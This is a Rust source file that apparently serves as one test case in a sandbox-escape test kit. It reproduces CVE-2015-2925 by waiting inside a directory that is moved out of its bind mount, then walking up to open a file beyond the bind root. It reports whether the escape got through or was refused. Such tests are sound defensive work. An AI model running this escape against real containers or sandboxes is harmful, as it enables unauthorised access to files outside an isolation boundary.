//! Stands in a directory that is moved out of its bind meanwhile, and walks up from there,
//! CVE-2015-2925.

use crate::kit::{self, Args, O_CREAT, O_DIRECTORY, O_RDONLY, O_WRONLY, join, nr, path};

pub fn attack(args: Args) -> ! {
    let folder = args.get(2);
    let moved = join(&[folder, b"/moved"]);
    let deep = join(&[folder, b"/moved/deep"]);
    for name in [&moved, &deep] {
        let _ = kit::call(nr::MKDIRAT, [kit::AT_FDCWD, path(name.with_nul()), 0o777]);
    }
    if let Err(errno) = kit::call(nr::CHDIR, [path(deep.with_nul())]) {
        kit::failed(format_args!("chdir: {errno}"));
    }
    let _ = kit::open(join(&[folder, b"/ready"]).with_nul(), O_WRONLY | O_CREAT);
    for _ in 0..2000 {
        if kit::open(moved.with_nul(), O_RDONLY | O_DIRECTORY).is_err() {
            match kit::open(b"../../secret\0", O_RDONLY) {
                Ok(_) => kit::through(format_args!("a file beside the bind is open")),
                Err(errno) => kit::refused("open ../../secret", errno),
            }
        }
        kit::sleep_ms(1);
    }
    kit::failed(format_args!("nobody moved the directory"))
}
